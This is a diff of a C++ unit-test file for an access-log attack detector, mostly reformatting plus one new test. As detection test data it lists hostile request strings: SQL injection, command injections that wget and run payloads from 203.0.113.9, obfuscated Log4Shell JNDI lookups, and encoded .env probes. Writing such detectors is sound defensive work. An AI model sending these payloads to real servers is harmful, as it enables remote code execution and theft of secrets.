@@ -3,9 +3,13 @@
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
+#include <set>
 #include <string>
 #include <thread>
 #include <vector>
+
+#include "detect/attack_patterns.h"
+#include "detect/attack_text.h"
 
 namespace accesslog {
 namespace {
@@ -25,7 +29,9 @@ AttackMatch Target(std::string_view target, std::string_view method = "GET") {
       mark == std::string_view::npos ? std::string_view{} : target.substr(mark + 1));
 }
 
-AttackMatch UserAgent(std::string_view user_agent) { return BuiltIn().MatchHeaders(user_agent, {}); }
+AttackMatch UserAgent(std::string_view user_agent) {
+  return BuiltIn().MatchHeaders(user_agent, {});
+}
 
 std::string WhyTarget(std::string_view target) {
   const size_t mark = target.find('?');
@@ -95,7 +101,8 @@ TEST(AttackSignaturesTest, FamiliesOfTargets) {
       {Family::kSqlInjection, "/item?id=1+UNION+SELECT+1,2,3--"},
       {Family::kSqlInjection, "/item?id=-1%27/**/uNiOn/**/AlL/**/sElEcT/**/null,null--+-"},
       {Family::kSqlInjection, "/item?id=1%20/*!50000union*/%20/*!50000select*/%201"},
-      {Family::kSqlInjection, "/item?id=1%2527%2520union%2520select%2520password%2520from%2520users"},
+      {Family::kSqlInjection,
+       "/item?id=1%2527%2520union%2520select%2520password%2520from%2520users"},
       {Family::kSqlInjection, "/item?id=(select(0)from(select(sleep(5)))v)"},
       {Family::kSqlInjection, "/item?id=1%27%20or%20%271%27=%271"},
       {Family::kSqlInjection, "/item?id=1+and+1=1"},
@@ -123,7 +130,8 @@ TEST(AttackSignaturesTest, FamiliesOfTargets) {
       {Family::kCommandInjection, "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+jaws"},
       {Family::kCommandInjection,
        "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m"},
-      {Family::kCommandInjection, "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"},
+      {Family::kCommandInjection,
+       "/?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"},
       {Family::kCommandInjection,
        "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5"},
       {Family::kCommandInjection,
@@ -134,7 +142,8 @@ TEST(AttackSignaturesTest, FamiliesOfTargets) {
       {Family::kCommandInjection, "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"},
       {Family::kLog4Shell, "/?x=${jndi:ldap://203.0.113.9/a}"},
       {Family::kLog4Shell, "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D"},
-      {Family::kLog4Shell, "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}"},
+      {Family::kLog4Shell,
+       "/?x=${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.9/a}"},
       {Family::kLog4Shell, "/?x=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}"},
       {Family::kLog4Shell, "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}"},
       {Family::kLog4Shell, "/?x=${${upper:${upper:${lower:j}}}ndi:rmi://203.0.113.9}"},
@@ -370,7 +379,8 @@ TEST(AttackSignaturesTest, HonestTargets) {
       "/api?filter=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3Anull%2C%22c%22%3A%22x%22%7D",
       "/api?f.req=%5B%5B%22x%22%2Cnull%2Cnull%5D%5D",
       "/api?jql=project%3D%27ABC%27+and+status%3D%27Open%27+order+by+created",
-      "/odata/Products?$filter=Price+gt+5+and+Name+eq+%27Milk%27&$select=Name&$expand=Items($select=Id)",
+      "/odata/"
+      "Products?$filter=Price+gt+5+and+Name+eq+%27Milk%27&$select=Name&$expand=Items($select=Id)",
       "/api/items?fields=name,id&sort=-id",
       "/api/items?fields=name|id",
       "/api/items?sort=name;id",
@@ -679,7 +689,8 @@ TEST(AttackSignaturesTest, HonestTargetsOfApplications) {
 
 TEST(AttackSignaturesTest, Scanners) {
   for (const std::string_view user_agent :
-       {"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "sqlmap/1.7#stable (https://sqlmap.org)",
+       {"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
+        "sqlmap/1.7#stable (https://sqlmap.org)",
         "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
         "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x",
         "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22",
@@ -691,25 +702,32 @@ TEST(AttackSignaturesTest, Scanners) {
 
 TEST(AttackSignaturesTest, HonestHeaders) {
   for (const std::string_view user_agent :
-       {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+       {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+        "Chrome/120.0.0.0 Safari/537.36",
         "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0",
         "python-requests/2.31.0", "Go-http-client/1.1", "Swiftfin%20tvOS/70 CFNetwork/1490.0.4",
-        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", "Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
-        "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 (GUI) MMP/2.0",
+        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
+        "Tiny Tiny RSS/1.11 (http://tt-rss.org/)",
+        "SAMSUNG-SGH-E250/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 UP.Browser/6.2.3.3.c.1.101 "
+        "(GUI) MMP/2.0",
         "Chef Client/10.18.2 (ruby-1.9.3-p327; ohai-6.16.0; x86_64-linux; +http://opscode.com)",
         "Microsoft Office Protocol Discovery", "-", ""}) {
     EXPECT_FALSE(UserAgent(user_agent).Any()) << BuiltIn().NamesOfHeaders(user_agent, {});
   }
   for (const std::string_view referer :
        {"https://www.google.com/search?q=union+select+from+information_schema.tables", "-", "",
-        "https://www.example.org/search?q=<script>alert(1)</script>", "android-app://com.google.android.gm/"}) {
-    EXPECT_FALSE(BuiltIn().MatchHeaders({}, referer).Any()) << BuiltIn().NamesOfHeaders({}, referer);
+        "https://www.example.org/search?q=<script>alert(1)</script>",
+        "android-app://com.google.android.gm/"}) {
+    EXPECT_FALSE(BuiltIn().MatchHeaders({}, referer).Any())
+        << BuiltIn().NamesOfHeaders({}, referer);
   }
 }
 
 TEST(AttackSignaturesTest, ExploitsInHeaders) {
-  const std::string_view lookup = "${jndi:${lower:l}${lower:d}a${lower:p}://x.example${upper:a}:80/callback}";
-  for (const AttackMatch& match : {BuiltIn().MatchHeaders(lookup, {}), BuiltIn().MatchHeaders({}, lookup)}) {
+  const std::string_view lookup =
+      "${jndi:${lower:l}${lower:d}a${lower:p}://x.example${upper:a}:80/callback}";
+  for (const AttackMatch& match :
+       {BuiltIn().MatchHeaders(lookup, {}), BuiltIn().MatchHeaders({}, lookup)}) {
     EXPECT_TRUE(match.Has(Family::kLog4Shell));
     EXPECT_TRUE(match.exploit);
     EXPECT_FALSE(match.leaks);
@@ -719,7 +737,8 @@ TEST(AttackSignaturesTest, ExploitsInHeaders) {
 }
 
 TEST(AttackSignaturesTest, WhatIsUnmistakableAndWhatLeaks) {
-  EXPECT_EQ(Target("/.env"), (AttackMatch{AttackFamilyBit(Family::kSensitiveFile), false, true, false}));
+  EXPECT_EQ(Target("/.env"),
+            (AttackMatch{AttackFamilyBit(Family::kSensitiveFile), false, true, false}));
   EXPECT_TRUE(Target("/c99.php").exploit);
   EXPECT_TRUE(Target("/c99.php").leaks);
   EXPECT_TRUE(Target("/?x=${jndi:ldap://a/b}").exploit);
@@ -759,12 +778,13 @@ TEST(AttackSignaturesTest, HostThatTheRequestLineNames) {
 // However a text is written, its meaning is matched.
 TEST(AttackSignaturesTest, Disguises) {
   for (const std::string_view target :
-       {"/%2e%65%6e%76", "/%252e%2565nv", "/%25252eenv", "/%u002eenv", "/\\x2Eenv", "/\\.env", "//.env", "/./.env",
-        "/x/..%2f.env", "/.%45NV", "/%c0%aeenv", "/%c0%2eenv/.env", "/%ef%bc%8eenv", "/.env%00.jpg", "/a//./.env"}) {
+       {"/%2e%65%6e%76", "/%252e%2565nv", "/%25252eenv", "/%u002eenv", "/\\x2Eenv", "/\\.env",
+        "//.env", "/./.env", "/x/..%2f.env", "/.%45NV", "/%c0%aeenv", "/%c0%2eenv/.env",
+        "/%ef%bc%8eenv", "/.env%00.jpg", "/a//./.env"}) {
     EXPECT_TRUE(Target(target).Has(Family::kSensitiveFile)) << target;
   }
-  for (const std::string_view target :
-       {"/x?a=1%0aunion%0dselect%091,2", "/x?a=1++union++select++1", "/x?a=1/*x*/union/*y*/select/*z*/1,2"}) {
+  for (const std::string_view target : {"/x?a=1%0aunion%0dselect%091,2", "/x?a=1++union++select++1",
+                                        "/x?a=1/*x*/union/*y*/select/*z*/1,2"}) {
     EXPECT_TRUE(Target(target).Has(Family::kSqlInjection)) << target;
   }
 }
@@ -779,7 +799,8 @@ TEST(AttackSignaturesTest, NothingHidesBehindLength) {
   }
   // Short of 15 KiB nothing hides between two pieces, wherever it stands.
   for (size_t at = 3700; at < 4300; at += 7) {
-    const std::string query = "/?pad=" + std::string(at, 'x') + "&a=1+union+select+1,2,3&pad=" + pad;
+    const std::string query =
+        "/?pad=" + std::string(at, 'x') + "&a=1+union+select+1,2,3&pad=" + pad;
     EXPECT_TRUE(Target(query).Has(Family::kSqlInjection)) << at;
   }
 }
@@ -819,14 +840,33 @@ TEST(AttackSignaturesTest, WrongRulesAreExplained) {
   EXPECT_THAT(ErrorOf({"", "", "path", "x", "", false, false}), HasSubstr("has no name"));
   EXPECT_THAT(ErrorOf({"a", "", "body", "x", "", false, false}), HasSubstr("\"body\""));
   EXPECT_THAT(ErrorOf({"a", "sqli", "path", "x", "", false, false}), HasSubstr("\"sqli\""));
-  EXPECT_THAT(ErrorOf({"a", "", "path", "", "", false, false}), HasSubstr("neither contains nor pattern"));
+  EXPECT_THAT(ErrorOf({"a", "", "path", "", "", false, false}),
+              HasSubstr("neither contains nor pattern"));
   EXPECT_THAT(ErrorOf({"a", "", "path", "", "(", false, false}), HasSubstr("missing )"));
-  EXPECT_THAT(ErrorOf({"dotenv", "", "path", "x", "", false, false}), HasSubstr("two signatures \"dotenv\""));
-  EXPECT_THAT(ErrorOf({"a", "", "path", std::string(257, 'x'), "", false, false}), HasSubstr("longer than 256"));
+  EXPECT_THAT(ErrorOf({"dotenv", "", "path", "x", "", false, false}),
+              HasSubstr("two signatures \"dotenv\""));
+  EXPECT_THAT(ErrorOf({"a", "", "path", std::string(257, 'x'), "", false, false}),
+              HasSubstr("longer than 256"));
   const std::vector<std::string> off = {"dotemv"};
-  EXPECT_THAT(AttackSignatures::Create({}, off).error().message, HasSubstr("did you mean \"dotenv\""));
+  EXPECT_THAT(AttackSignatures::Create({}, off).error().message,
+              HasSubstr("did you mean \"dotenv\""));
   const std::vector<SignatureRule> many(kMaxUserSignatures + 1);
   EXPECT_FALSE(AttackSignatures::Create(many));
+}
+
+// A literal that no decoded text can hold is a rule that never matches.
+TEST(AttackSignaturesTest, BuiltInLiteralsAreWrittenAsTextsAreDecoded) {
+  std::set<std::string_view> names;
+  for (const BuiltInSignature& signature : BuiltInSignatures()) {
+    EXPECT_TRUE(names.insert(signature.name).second) << signature.name << " is there twice";
+    std::string_view rest = signature.literals;
+    while (!rest.empty()) {
+      const std::string literal(rest.substr(0, rest.find('\n')));
+      rest.remove_prefix(std::min(rest.size(), literal.size() + 1));
+      EXPECT_FALSE(literal.empty()) << signature.name;
+      EXPECT_EQ(FoldedLiteral(literal), literal) << signature.name;
+    }
+  }
 }
 
 // People keep such files under WebDAV and in git forges; who climbs out of there does not.
